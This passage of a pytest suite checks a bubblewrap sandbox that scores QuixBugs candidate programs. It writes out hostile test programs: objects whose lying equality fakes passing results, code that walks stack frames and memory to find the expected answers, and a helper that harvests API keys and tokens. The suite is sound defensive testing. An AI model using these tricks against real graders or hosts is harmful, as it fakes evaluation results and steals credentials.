"""The evil-program suite (SPEC 4, issue 2): hostile candidates scored on a real QuixBugs task.

Every hostile program below is scored against `bitcount` (whose expected values only the
parent holds) on a real `Sandbox`, and for every one of them the suite checks:

1. no pass it did not earn: none of the programs computes bitcount itself; each one can only
   produce a right answer if its attack works (a lying `__eq__`, expected values found in
   memory, on disk, over the network, ...), so any pass means a guarantee broke;
2. nothing written outside the scratch dir: canary paths on the host (/tmp, /var/tmp,
   /dev/shm, the repository, $HOME, a world-writable canary folder, the data dir, the worker
   file, the venv's site-packages) neither appear nor change;
3. no process left behind: no host process carries the run's marker (in argv or comm), and
   no process of the sandbox user remains under this test process other than the workers;
4. no secret in any output or record: fake keys set in this process's environment, a secret
   file outside every bound path and one in the data dir never show up in any step's records
   or detail, the stdout/stderr tails, the load error, or the outcomes the parent derives;
5. the next candidate is scored normally: the correct bitcount runs next on the same Sandbox
   (the same slot: one worker per Sandbox here) and passes every test.

The second round (issue 7) adds kinds of its own, with the same five assertions: thieves
looking for a correct sibling's code and answers (run just before in the same slot, or queued
just behind in the worker's pipe) in their own memory, objects, descriptors, /proc and disk;
records that would stall the parent (sets of colliding hashes, floods, nesting); memory held
in memfds, shared mappings, a tmpfs in a user namespace, half a million files; keyrings of
every kind, IPC and message queues left behind (with and without the seccomp filter).
CORAL_REQUIRE_BWRAP=1 (set by CI) turns every skip for want of bubblewrap into a failure.

Beyond the five: the captured output stays within `output_bytes`; a worker the pool gives up
on is gone (not left running outside it); with bubblewrap the worker survives every attack
(it is PID 1 of its own namespace); and two tests need more than one job: nothing a candidate
leaves (files, locked folders, System V IPC, keyring entries) reaches the next one, and
`memory_mb` bounds a candidate's processes together, not each one.

What needs bubblewrap (isolation "bwrap"/"auto") and what holds without it ("none", see
`test_isolation_none_keeps_the_other_layers`, which runs a subset of the kinds):
- only bubblewrap gives filesystem isolation: without it the candidate sees the host's files
  as the sandbox user (nobody when started as root), so it can read whatever is world
  readable (the data dir, hence the expected values), write to /tmp, /var/tmp and /dev/shm,
  and read host processes' command lines in /proc (kinds read_test_data_from_disk,
  read_secret_files and write_outside_scratch are bubblewrap-only);
- only bubblewrap isolates the network (network_access is bubblewrap-only: without it the
  candidate reaches 127.0.0.1 and anything the host reaches);
- only bubblewrap gives PID and IPC namespaces: without them the candidate can signal every
  process of the sandbox user on the host (other slots, other sandboxes: `kill(-1)` is not
  run here for that reason), kill its own worker, and share System V IPC with everyone;
- started without root and without bubblewrap, the candidate is the same user as the
  caller and can read /proc/<caller>/environ: the "none" secrets test fails there unless
  the caller makes itself non-dumpable;
- what holds without bubblewrap: the parent compares plain data (lying `__eq__`, tampering,
  fake output and early exits cannot make a pass), the scrubbed environment, the drop to
  nobody when started as root, the resource limits, stdin from /dev/null, bounded captured
  output, and the cleanup of every process the candidate started (the worker is a
  subreaper and kills its descendants after each job).
"""

from __future__ import annotations

import concurrent.futures
import json
import os
import re
import shutil
import signal
import socket
import sysconfig
import threading
import time
import uuid
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any, Callable

import pytest

from coral_core.scoring.verdicts import Outcome, judge_case
from coral_core.sandbox import ExecutionResult, Job, Opaque, Sandbox, SandboxPolicy
from coral_core.sandbox.policy import WORKER_FILE, bwrap_available
from coral_core.scoring.program_tests import ExecutionSpec
from coral_core.types import Task
from coral_plugins.datasets.quixbugs import QuixBugs

pytestmark = pytest.mark.loaded  # make test runs it beside CPU hogs

REPO = Path(__file__).resolve().parents[1]
NOBODY = 65534
RUN = uuid.uuid4().hex[:12]
MARK = f"coral-evil-marker-{RUN}"  # in the argv of every process an evil program starts
COMM = f"ev{RUN}"[:15]  # the comm (process name) evil programs give forked processes
SLEEP = f"{int(RUN[:6], 16) + 100000}.{int(RUN[6:], 16)}"  # `sleep SLEEP`: a unique argv
SECRET = uuid.uuid4().hex  # never rendered into any program: it may only leak
SECRETS = {
    "OPENAI_API_KEY": f"sk-evil-canary-{SECRET}",
    "HF_TOKEN": f"hf_evilcanary{SECRET}",
    "ANTHROPIC_API_KEY": f"sk-ant-evil-{SECRET}",
    "AWS_SECRET_ACCESS_KEY": f"aws-evil-{SECRET}",
    "GITHUB_TOKEN": f"ghp_evil{SECRET}",
}
FILE_SECRET = f"file-secret-{SECRET}"
DATA_SECRET = f"data-secret-{SECRET}"
ANSWERS = {127: 7, 128: 1, 3005: 9, 13: 3, 14: 3, 27: 4, 834: 4, 254: 7, 256: 1}

POLICY = SandboxPolicy(timeout=0.5, load_timeout=1.0, memory_mb=256)
HAVE_BWRAP = bwrap_available()[0]
# CI sets CORAL_REQUIRE_BWRAP=1: there, a machine where bubblewrap cannot isolate fails the
# suite instead of skipping the kinds that need it.
REQUIRE_BWRAP = os.environ.get("CORAL_REQUIRE_BWRAP") == "1"
needs_bwrap = pytest.mark.skipif(not HAVE_BWRAP and not REQUIRE_BWRAP,
                                 reason="bubblewrap is not usable here")


def _without_bwrap() -> None:
    """Skip, or fail where CORAL_REQUIRE_BWRAP=1, when bubblewrap cannot isolate."""
    why = "bubblewrap is not usable here: " + bwrap_available()[1]
    if REQUIRE_BWRAP:
        pytest.fail(why + " (CORAL_REQUIRE_BWRAP=1)")
    pytest.skip(why)


# ------------------------------------------------------------------ the host's view

@dataclass(frozen=True)
class Proc:
    pid: int
    ppid: int
    state: str
    uid: int
    comm: str
    cmdline: bytes


def _procs() -> dict[int, Proc]:
    found = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat", "rb") as handle:
                raw = handle.read()
            with open(f"/proc/{entry}/status", "rb") as handle:
                status = handle.read()
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                cmdline = handle.read()
        except OSError:
            continue
        uid = re.search(rb"^Uid:\s+(\d+)", status, re.M)
        fields = raw.rsplit(b")", 1)[1].split()
        comm = raw[raw.find(b"(") + 1: raw.rfind(b")")].decode("utf-8", "replace")
        found[int(entry)] = Proc(int(entry), int(fields[1]), fields[0].decode(),
                                 int(uid.group(1)) if uid else -1, comm, cmdline)
    return found


def _descendants(procs: dict[int, Proc], root: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for proc in procs.values():
        children.setdefault(proc.ppid, []).append(proc.pid)
    found, stack = set(), [root]
    while stack:
        for child in children.get(stack.pop(), ()):
            if child not in found:
                found.add(child)
                stack.append(child)
    return found


def _sandbox_procs(procs: dict[int, Proc] | None = None) -> tuple[set[int], set[int]]:
    """(workers, job processes) under this test process. A worker runs worker.py and is the
    child of bubblewrap or of this process; everything below a worker belongs to a job."""
    procs = procs if procs is not None else _procs()
    me = os.getpid()
    workers = set()
    for pid in _descendants(procs, me):
        proc, parent = procs[pid], procs.get(procs[pid].ppid)
        if proc.comm != "bwrap" and b"coral_inside" in proc.cmdline and parent is not None and (
                parent.pid == me or parent.comm == "bwrap"):
            workers.add(pid)
    jobs: set[int] = set()
    for worker in workers:
        jobs |= _descendants(procs, worker)
    return workers, jobs


def _marked(procs: dict[int, Proc]) -> list[Proc]:
    """Processes anywhere on the host that an evil program started (zombies excepted)."""
    keys = (MARK.encode(), SLEEP.encode(), RUN.encode())
    return [p for p in procs.values() if p.state != "Z"
            and (any(key in p.cmdline for key in keys) or p.comm.startswith(COMM))]


def _leftovers(wait: float = 1.0) -> list[str]:
    """What is left after a job; whatever is found is then killed (by pid: each one is a
    process an evil program of this run started), so one failure does not leak into others."""
    deadline = time.monotonic() + wait
    while True:
        procs = _procs()
        _, jobs = _sandbox_procs(procs)
        found = {p.pid: f"{p.pid} {p.comm} {p.cmdline[:80]!r}" for p in _marked(procs)}
        found.update({pid: f"{pid} {procs[pid].comm} (state {procs[pid].state}, under a worker)"
                      for pid in jobs if pid not in found})
        if not found or time.monotonic() > deadline:
            break
        time.sleep(0.02)
    for pid in found:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return sorted(found.values())


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", "rb") as handle:
            return handle.read().rsplit(b")", 1)[1].split()[0] not in (b"Z", b"X")
    except OSError:
        return False


def _assert_old_workers_gone(name: str, old: set[int]) -> None:
    """A worker the pool gave up on (and replaced) must not live on outside it."""
    current, _ = _sandbox_procs()
    deadline = time.monotonic() + 2.0
    while True:
        alive = [pid for pid in old - current if _alive(pid)]
        if not alive or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    for pid in alive:  # ours: it was a worker under this test process a moment ago
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    assert not alive, (
        f"[{name}] guarantee 3 (no process left behind) broke: the replaced sandbox worker "
        f"{alive} still runs, outside the pool (bubblewrap's --die-with-parent is lost once "
        f"the worker changes its uid)")


def _pss_kb(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/smaps_rollup", "rb") as handle:
            match = re.search(rb"^Pss:\s+(\d+)", handle.read(), re.M)
    except OSError:
        return 0
    return int(match.group(1)) if match else 0


class Sampler(threading.Thread):
    """Peak number and total proportional memory of the job processes while a job runs."""

    def __init__(self, memory: bool = False):
        super().__init__(daemon=True)
        self.memory = memory
        self.peak_processes = 0
        self.peak_mb = 0.0
        self._halt = threading.Event()

    def run(self) -> None:
        while not self._halt.is_set():
            _, jobs = _sandbox_procs()
            self.peak_processes = max(self.peak_processes, len(jobs))
            if self.memory:
                self.peak_mb = max(self.peak_mb, sum(_pss_kb(pid) for pid in jobs) / 1024)
            self._halt.wait(0.005)

    def __enter__(self) -> "Sampler":
        self.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._halt.set()
        self.join()


class Listeners:
    """A TCP, a UDP and an abstract unix socket on the host; each answers with the expected
    values, so a candidate that reaches one would pass. Every contact is recorded."""

    def __init__(self) -> None:
        self.events: list[str] = []
        self.tcp = socket.create_server(("0.0.0.0", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(f"\0coral-evil-{RUN}")
        self.unix.listen()
        self.tcp_port = self.tcp.getsockname()[1]
        self.udp_port = self.udp.getsockname()[1]
        self._payload = json.dumps([[[n], v] for n, v in ANSWERS.items()]).encode()
        self._halt = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        import selectors

        with selectors.DefaultSelector() as selector:
            for sock in (self.tcp, self.udp, self.unix):
                selector.register(sock, selectors.EVENT_READ)
            while not self._halt:
                for key, _ in selector.select(0.1):
                    sock = key.fileobj
                    try:
                        if sock is self.udp:
                            data, peer = self.udp.recvfrom(65536)
                            self.events.append(f"udp from {peer}: {data[:60]!r}")
                            self.udp.sendto(self._payload, peer)
                        else:
                            conn, peer = sock.accept()  # type: ignore[union-attr]
                            self.events.append(f"connection from {peer!r}")
                            with conn:
                                conn.sendall(self._payload)
                    except OSError:
                        continue

    def close(self) -> None:
        self._halt = True
        self._thread.join(timeout=2)
        for sock in (self.tcp, self.udp, self.unix):
            sock.close()


@dataclass
class World:
    """Everything on the host that the evil programs try to reach."""

    data_root: Path  # the data dir the parent used (it holds quixbugs/)
    shared_root: Path  # the project's real data dir
    secret_dir: Path
    canary_dir: Path
    targets: tuple[Path, ...]  # files an evil program tries to create: must never exist
    watched: tuple[Path, ...]  # files it tries to change: must keep existing, without MARK
    listeners: Listeners
    task: Task
    tokens: dict[str, str] = field(default_factory=dict)


def _host_ip() -> str:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect(("10.255.255.255", 1))
            return probe.getsockname()[0]
    except OSError:
        return "127.0.0.1"


@pytest.fixture(scope="module")
def world(data_dir: Path):
    base = Path(f"/var/tmp/coral-evil-{RUN}")  # outside every path the sandbox binds
    secret_dir = base / "secrets"
    data_root = base / "data"
    canary_dir = Path(f"/tmp/coral-evil-canary-{RUN}")
    try:
        secret_dir.mkdir(parents=True)
        (secret_dir / "secret.txt").write_text(f"API_TOKEN={FILE_SECRET}\n")
        shutil.copy(data_dir / "quixbugs" / "json_testcases" / "bitcount.json",
                    secret_dir / "answers.json")
        for folder in ("python_programs", "correct_python_programs", "json_testcases",
                       "python_testcases"):
            shutil.copytree(data_dir / "quixbugs" / folder, data_root / "quixbugs" / folder)
        (data_root / "secret.txt").write_text(f"HF_TOKEN={DATA_SECRET}\n")
        (data_root / "quixbugs" / "SECRET_TOKEN").write_text(DATA_SECRET)
        for path in [base, *base.rglob("*")]:  # world-readable: only isolation may hide them
            path.chmod(0o755 if path.is_dir() else 0o644)
        canary_dir.mkdir()
        canary_dir.chmod(0o777)
        site = Path(sysconfig.get_paths()["purelib"])
        targets = [
            Path(f"/tmp/coral-evil-canary-{RUN}-file"), canary_dir / "written",
            Path(f"/var/tmp/coral-evil-canary-{RUN}"), Path(f"/dev/shm/coral-evil-canary-{RUN}"),
            REPO / f"coral-evil-canary-{RUN}", Path.home() / f"coral-evil-canary-{RUN}",
            secret_dir / f"written-{RUN}", data_root / "quixbugs" / f"written-{RUN}",
        ]
        watched = [
            WORKER_FILE.resolve(), secret_dir / "secret.txt",
            data_root / "quixbugs" / "json_testcases" / "bitcount.json",
            data_root / "quixbugs" / "correct_python_programs" / "bitcount.py",
            data_dir / "quixbugs" / "json_testcases" / "bitcount.json",
        ]
        for name in ("sitecustomize.py", "usercustomize.py"):
            (watched if (site / name).exists() else targets).append(site / name)
        assert not [t for t in targets if t.exists()], "canary targets exist before the run"
        listeners = Listeners()
        task = QuixBugs(data_dir=str(data_root)).task("bitcount")
        assert task.execution is not None and len(task.execution.cases) == len(ANSWERS)
        tokens = {
            "@RUN@": RUN, "@MARK@": MARK, "@COMM@": COMM, "@SLEEP@": SLEEP,
            "@DATA@": str(data_root), "@SHARED@": str(data_dir), "@REPO@": str(REPO),
            "@HOME@": str(Path.home()), "@SECRETDIR@": str(secret_dir),
            "@CANARY@": str(canary_dir), "@HOSTPID@": str(os.getpid()),
            "@PORT@": str(listeners.tcp_port), "@UDP@": str(listeners.udp_port),
            "@HOSTIP@": _host_ip(), "@SITE@": str(site),
            "@TARGETS@": json.dumps([str(t) for t in targets]),
            "@WATCHED@": json.dumps([str(w) for w in watched]),
        }
        world = World(data_root, data_dir, secret_dir, canary_dir, tuple(targets),
                      tuple(watched), listeners, task, tokens)
        yield world
        listeners.close()
    finally:
        shutil.rmtree(base, ignore_errors=True)
        shutil.rmtree(canary_dir, ignore_errors=True)


@pytest.fixture(scope="module")
def secrets_in_env():
    """Fake keys in this process's environment before any Sandbox exists."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in SECRETS.items():
            patch.setenv(name, value)
        yield


def _warm(sandbox: Sandbox, world: World) -> Sandbox:
    assert world.task.execution is not None
    result = sandbox.run(Job.build(world.task.execution, world.task.reference, sandbox.policy))
    assert result.steps and all(s.status == "ok" for s in result.steps), (
        f"the correct program does not run in this sandbox at all: {result}")
    return sandbox


@pytest.fixture(scope="module")
def sandbox(secrets_in_env, world: World):
    if not HAVE_BWRAP:
        _without_bwrap()
    box = Sandbox(replace(POLICY, isolation="bwrap"), workers=1)
    try:
        yield _warm(box, world)
    finally:
        box.close()


# ------------------------------------------------------------------ the checks

def render(code: str, world: World) -> str:
    for token, value in world.tokens.items():
        code = code.replace(token, value)
    assert SECRET not in code
    return code


def _blob(result: ExecutionResult, outcomes: list[Outcome]) -> str:
    parts = [result.load_error, result.stdout, result.stderr]
    for step in result.steps:
        parts += [step.detail, repr(step.records)]
    parts += [f"{o.name} {o.status} {o.detail}" for o in outcomes]
    return "\n".join(parts)


def _assert_no_secret(name: str, result: ExecutionResult, outcomes: list[Outcome]) -> None:
    blob = _blob(result, outcomes)
    leaked = [s for s in (*SECRETS.values(), FILE_SECRET, DATA_SECRET, SECRET) if s in blob]
    assert not leaked, (
        f"[{name}] guarantee 4 (no secret in any output or record) broke: {leaked} appeared in "
        f"the result:\n{blob[:2000]}")


def _assert_nothing_written(name: str, world: World) -> None:
    created = [str(t) for t in world.targets if os.path.lexists(t)]
    created += [str(p) for p in world.canary_dir.iterdir()]
    changed = []
    for path in world.watched:
        try:
            if MARK.encode() in path.read_bytes():
                changed.append(f"{path} (written)")
        except OSError as error:
            changed.append(f"{path} ({error.strerror})")
    assert not created and not changed, (
        f"[{name}] guarantee 2 (nothing written outside the scratch dir) broke: "
        f"created {created}, changed {changed}")


def _assert_no_leftovers(name: str) -> None:
    left = _leftovers()
    assert not left, f"[{name}] guarantee 3 (no process left behind) broke: {left}"


def _outcomes(spec: ExecutionSpec, result: ExecutionResult) -> list[Outcome]:
    assert len(result.steps) == len(spec.cases)
    return [judge_case(case, step) for case, step in zip(spec.cases, result.steps)]


def _assert_next_is_normal(name: str, sandbox: Sandbox, world: World) -> None:
    spec = world.task.execution
    assert spec is not None
    result = sandbox.run(Job.build(spec, world.task.reference, sandbox.policy))
    outcomes = _outcomes(spec, result)
    bad = [f"{o.name}: {o.status} {o.detail}" for o in outcomes if o.status != "pass"]
    assert not bad, (
        f"[{name}] guarantee 5 (the next candidate is scored normally) broke: the correct "
        f"bitcount run right after it got {bad}; load error {result.load_error!r}")
    _assert_no_secret(name + " (next candidate)", result, outcomes)


def score(sandbox: Sandbox, world: World, name: str, code: str,
          cases: int | None = None, after: str | None = None,
          ) -> tuple[ExecutionSpec, ExecutionResult, list[Outcome]]:
    """Score `code`; with `after`, that program is submitted right behind it, so that its
    job waits in the worker's pipe while `code` runs (and must then pass on its own)."""
    spec = world.task.execution
    assert spec is not None
    if cases is not None:
        spec = replace(spec, cases=spec.cases[:cases])
    job = Job.build(spec, render(code, world), sandbox.policy)
    budget = sandbox.policy.load_timeout + 3 * sum(job.payload["timeouts"]) + 30
    try:
        full = world.task.execution
        if after is not None:  # keep the worker busy, so that both jobs wait in its pipe
            busy = "import time\ntime.sleep(0.3)\n" + world.task.reference
            sandbox.submit(Job.build(full, busy, sandbox.policy))
        future = sandbox.submit(job)
        if after is not None:
            behind = sandbox.submit(Job.build(full, render(after, world), sandbox.policy))
        result = future.result(timeout=budget)
        if after is not None:
            neighbour = behind.result(timeout=budget)
            bad = [judge_case(c, s).status for c, s in zip(full.cases, neighbour.steps)]
            assert set(bad) == {"pass"}, (
                f"[{name}] the correct program queued behind it did not pass: {bad} "
                f"{neighbour.load_error!r}")
    except concurrent.futures.TimeoutError:
        pytest.fail(f"[{name}] the sandbox never answered ({budget:.0f} s): the candidate hung "
                    f"the scoring of everything queued behind it")
    except Exception as error:  # the candidate must end up as an error, not crash the caller
        pytest.fail(f"[{name}] the sandbox raised {error!r} instead of scoring the candidate")
    return spec, result, _outcomes(spec, result)


def attack(sandbox: Sandbox, world: World, kind: "Kind", bwrap: bool = True) -> ExecutionResult:
    """Score one evil program and check the five guarantees (plus worker survival)."""
    workers_before, _ = _sandbox_procs()
    if bwrap and not workers_before:  # an earlier failure took the worker down: restart it
        _warm(sandbox, world)
        workers_before, _ = _sandbox_procs()
    try:
        return _attack(sandbox, world, kind, bwrap, workers_before)
    finally:  # whatever failed, leave nothing running: kill (by pid) what this run started
        _leftovers(wait=0)
        current, _ = _sandbox_procs()
        for pid in workers_before - current:
            if _alive(pid):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass


def _attack(sandbox: Sandbox, world: World, kind: "Kind", bwrap: bool,
            workers_before: set[int]) -> ExecutionResult:
    sampler = Sampler(memory=kind.memory) if kind.sample else None
    started_before = sandbox.workers_started
    if kind.before is not None:  # a sibling in the same slot, just before
        _, first, _ = score(sandbox, world, kind.name + " (sibling before)", kind.before)
        assert all(s.status == "ok" for s in first.steps), first
    started = time.monotonic()
    if sampler:
        with sampler:
            spec, result, outcomes = score(sandbox, world, kind.name, kind.code, kind.cases,
                                           kind.after)
    else:
        spec, result, outcomes = score(sandbox, world, kind.name, kind.code, kind.cases,
                                       kind.after)
    elapsed = time.monotonic() - started

    passed = [f"{o.name} ({o.detail or 'pass'})" for o in outcomes if o.status == "pass"]
    assert not passed, (
        f"[{kind.name}] guarantee 1 (no pass it did not earn) broke: {passed}; records "
        f"{[s.records for s in result.steps][:3]}; stdout {result.stdout[-500:]!r}")
    _assert_nothing_written(kind.name, world)
    _assert_no_leftovers(kind.name)
    _assert_no_secret(kind.name, result, outcomes)
    limit = sandbox.policy.output_bytes
    assert len(result.stdout) <= limit and len(result.stderr) <= limit, (
        f"[{kind.name}] captured output is not bounded: {len(result.stdout)} / "
        f"{len(result.stderr)} characters for a limit of {limit} bytes")
    if kind.check is not None:
        kind.check(Seen(kind.name, spec, result, outcomes, world, sampler, elapsed,
                        sandbox.policy))
    _assert_next_is_normal(kind.name, sandbox, world)
    _assert_old_workers_gone(kind.name, workers_before)
    if bwrap and not kind.may_kill_worker:  # checked after the next job: it may die cleaning up
        workers_after, _ = _sandbox_procs()
        assert sandbox.workers_started == started_before, (
            f"[{kind.name}] the sandbox worker did not survive the candidate: "
            f"{sandbox.workers_started - started_before} started since; load error "
            f"{result.load_error!r}, steps {[s.detail for s in result.steps][:2]}")
        assert workers_after == workers_before, (
            f"[{kind.name}] the sandbox worker did not survive the candidate "
            f"(workers before {sorted(workers_before)}, after {sorted(workers_after)}); "
            f"load error {result.load_error!r}, steps {[s.detail for s in result.steps][:2]}")
    return result


@dataclass
class Seen:
    """What a kind-specific check gets to look at."""

    name: str
    spec: ExecutionSpec
    result: ExecutionResult
    outcomes: list[Outcome]
    world: World
    sampler: Sampler | None
    elapsed: float
    policy: SandboxPolicy


@dataclass(frozen=True)
class Kind:
    name: str
    code: str
    cases: int | None = None  # run only the first N test cases (for kinds that time out)
    check: Callable[[Seen], None] | None = None
    sample: bool = False
    memory: bool = False
    may_kill_worker: bool = False
    before: str | None = None  # a program run just before, in the same slot
    after: str | None = None  # a program submitted right behind, waiting in the pipe


# ------------------------------------------------------------------ kind-specific checks

def _all_status(status: str) -> Callable[[Seen], None]:
    def check(seen: Seen) -> None:
        got = [s.status for s in seen.result.steps]
        assert got == [status] * len(got), (
            f"[{seen.name}] expected every step to end as {status!r}, got {got} "
            f"({[s.detail for s in seen.result.steps][:2]})")
    return check


def _all_outcomes(status: str) -> Callable[[Seen], None]:
    def check(seen: Seen) -> None:
        got = [o.status for o in seen.outcomes]
        assert got == [status] * len(got), (
            f"[{seen.name}] expected every test to end as {status!r}, got {got} "
            f"({[o.detail for o in seen.outcomes][:2]})")
    return check


def _load_failed(seen: Seen) -> None:
    assert seen.result.load_error, f"[{seen.name}] expected a load error, got none"
    assert all(s.status == "error" for s in seen.result.steps), (
        f"[{seen.name}] a step ran although the program never loaded: {seen.result.steps}")


def _plain_records(seen: Seen) -> None:
    """Candidate objects never reach the parent: only builtins and identity tokens do."""
    def plain(value: Any) -> bool:
        if isinstance(value, Opaque):
            return True
        if type(value) in (list, tuple, set, frozenset):
            return all(plain(item) for item in value)
        if type(value) is dict:
            return all(plain(k) and plain(v) for k, v in value.items())
        return type(value) in (type(None), bool, int, float, str, bytes)

    records = [r for s in seen.result.steps for r in s.records]
    odd = [repr(r)[:80] for r in records if not plain(r)]
    assert not odd, f"[{seen.name}] non-builtin values reached the parent: {odd}"


def _no_network(seen: Seen) -> None:
    events = list(seen.world.listeners.events)
    assert not events, f"[{seen.name}] the candidate reached the host's listeners: {events}"
    reached = [line for line in seen.result.stdout.splitlines() if "NETWORK-REACHED" in line]
    assert not reached, f"[{seen.name}] the candidate reached the network: {reached}"


def _stdin_eof(seen: Seen) -> None:
    got = [s.status for s in seen.result.steps]
    assert "timeout" not in got and not seen.result.load_error, (
        f"[{seen.name}] reading stdin blocked instead of getting EOF: {got} "
        f"{seen.result.load_error!r}")
    assert "STDIN-GOT" not in seen.result.stdout, (
        f"[{seen.name}] the candidate read something from stdin: {seen.result.stdout[-300:]!r}")


def _bounded_processes(seen: Seen) -> None:
    assert seen.sampler is not None
    assert 0 < seen.sampler.peak_processes <= seen.policy.max_processes, (
        f"[{seen.name}] the fork bomb reached {seen.sampler.peak_processes} processes "
        f"(limit {seen.policy.max_processes}), or was never seen")


def _quick(seconds: float) -> Callable[[Seen], None]:
    def check(seen: Seen) -> None:
        assert seen.elapsed < seconds, (
            f"[{seen.name}] the job took {seen.elapsed:.1f} s (more than {seconds} s): the "
            f"candidate stalled the sandbox itself")
    return check


def _both(*checks: Callable[[Seen], None]) -> Callable[[Seen], None]:
    def check(seen: Seen) -> None:
        for one in checks:
            one(seen)
    return check


# ------------------------------------------------------------------ the evil programs

# Helpers an attacker would write: harvest expected values from whatever it can read
# (QuixBugs test lines `[[n], answer]`, or a solution's source it can run), collect
# anything that looks like a key, and answer with what it found (leaks included).
PRELUDE = r'''
import json as _json
import os as _os
import re as _re
import signal as _signal
import sys as _sys

_ANSWERS = {}
_SOLVERS = []
_LEAKS = []
_SELF = "coral-evil-self-@RUN@"
_PAIR = _re.compile(r"\[\[(-?\d+)\],\s*(-?\d+)\]")
_KEYISH = _re.compile(r"(sk-[\w-]{8,}|hf_\w{8,}|ghp_\w+|aws-[\w-]+|[\w-]*secret[\w-]*"
                      r"|[A-Z_]*(?:KEY|TOKEN)[A-Z_]*=[^\x00\n]*)", _re.I)


def _learn(text, where="<found>"):
    if isinstance(text, bytes):
        text = text.decode("utf-8", "replace")
    for match in _PAIR.finditer(text):
        _ANSWERS[int(match.group(1))] = int(match.group(2))
    if "def bitcount" in text and _SELF not in text and "_answer(" not in text:  # not ours
        namespace = {}
        try:
            exec(compile(text, where, "exec"), namespace)
        except BaseException:
            return
        if callable(namespace.get("bitcount")):
            _SOLVERS.append(namespace["bitcount"])


def _leak(text):
    if isinstance(text, bytes):
        text = text.decode("utf-8", "replace")
    _LEAKS.extend(match.group(0) for match in _KEYISH.finditer(text))


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as handle:
            data = handle.read(limit)
    except (OSError, ValueError):
        return None
    _learn(data, path)
    _leak(data)
    return data


def _stop(*_):
    raise TimeoutError


def _answer(n):
    if n in _ANSWERS:
        return _ANSWERS[n]
    for solver in _SOLVERS:  # a found program may be the buggy one: give each 50 ms
        old = _signal.signal(_signal.SIGALRM, _stop)
        _signal.setitimer(_signal.ITIMER_REAL, 0.05)
        try:
            return solver(n)
        except BaseException:
            pass
        finally:
            _signal.setitimer(_signal.ITIMER_REAL, 0)
            _signal.signal(_signal.SIGALRM, old)
    if _LEAKS:
        return "LEAKED " + " | ".join(sorted(set(_LEAKS)))
    return -1


def _report():
    text = " | ".join(sorted(set(_LEAKS)))
    print("found answers:", _ANSWERS, "solvers:", len(_SOLVERS), "leaks:", text)
    print("leaks:", text, file=_sys.stderr)
'''

LYING_OBJECT = r'''
class AlwaysEqual:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __bool__(self):
        return True

    def __int__(self):
        return 7

    __index__ = __int__


def bitcount(n):
    return AlwaysEqual()
'''

LYING_INT = r'''
class LyingInt(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__

    def __index__(self):
        return 7

    def __int__(self):
        return 7

    def __repr__(self):
        return "7"

    __str__ = __repr__


def bitcount(n):
    return LyingInt(-1)
'''

LYING_CONTAINERS = r'''
def _liar(base):
    return type("Lying" + base.__name__, (base,), {
        "__eq__": lambda self, other: True, "__ne__": lambda self, other: False,
        "__hash__": lambda self: 0, "__iter__": lambda self: iter([7]),
        "__len__": lambda self: 1, "__repr__": lambda self: "7", "__str__": lambda self: "7",
        "__float__": lambda self: 7.0, "__index__": lambda self: 7,
    })


_VALUES = [_liar(list)([-1]), _liar(str)("x"), _liar(float)(-1.0), _liar(dict)(),
           _liar(tuple)((-1,)), _liar(bytes)(b"x"), _liar(frozenset)(), _liar(set)()]


class Spoof:
    """Claims to be an int to isinstance() through __class__."""

    __class__ = property(lambda self: int)

    def __eq__(self, other):
        return True

    def __index__(self):
        return 7

    __hash__ = object.__hash__


_COUNT = [0]


def bitcount(n):
    _COUNT[0] += 1
    if _COUNT[0] % 3 == 0:
        return Spoof()
    return _VALUES[_COUNT[0] % len(_VALUES)]
'''

FRAME_WALKING = PRELUDE + r'''
import gc
import inspect

_SEEN = set()


def _hunt(value, n, depth=0):
    """Look for anything that could be an expected value for input n."""
    if depth > 6 or id(value) in _SEEN:
        return
    _SEEN.add(id(value))
    try:
        if isinstance(value, str):
            if str(n) in value:
                _learn(value)
            return
        if isinstance(value, (bytes, bytearray)):
            if str(n).encode() in value:
                _learn(bytes(value))
            return
        for attr in ("expects", "expected", "value", "cases"):
            if not isinstance(value, (int, float, type(None))) and hasattr(value, attr):
                _hunt(getattr(value, attr), n, depth + 1)
        if isinstance(value, dict):
            for key, item in list(value.items())[:2000]:
                _hunt(key, n, depth + 1)
                _hunt(item, n, depth + 1)
        elif isinstance(value, (list, tuple, set, frozenset)):
            items = list(value)[:2000]
            if len(items) == 2 and isinstance(items[0], (list, tuple)) \
                    and list(items[0]) == [n] and isinstance(items[1], int):
                _ANSWERS[n] = items[1]
            for item in items:
                _hunt(item, n, depth + 1)
        elif hasattr(value, "__dict__") and not inspect.ismodule(value):
            _hunt(vars(value), n, depth + 1)
    except Exception:
        pass


def bitcount(n):
    _SEEN.clear()
    frame = _sys._getframe(1)
    while frame is not None:  # every caller's locals and globals, up to the worker's main
        _hunt(dict(frame.f_locals), n)
        _hunt(dict(frame.f_globals), n)
        frame = frame.f_back
    for info in inspect.stack():
        _hunt(info.frame.f_locals, n)
    main = _sys.modules.get("__main__")
    if main is not None:
        _hunt(vars(main), n)
    for name, module in list(_sys.modules.items()):
        if name.startswith(("coral", "__main__", "__coral")):
            _hunt(vars(module), n)
    return _answer(n)
'''

GC_SCANNING = PRELUDE + r'''
import gc


def _scan(n):
    needle = str(n)
    for obj in gc.get_objects():
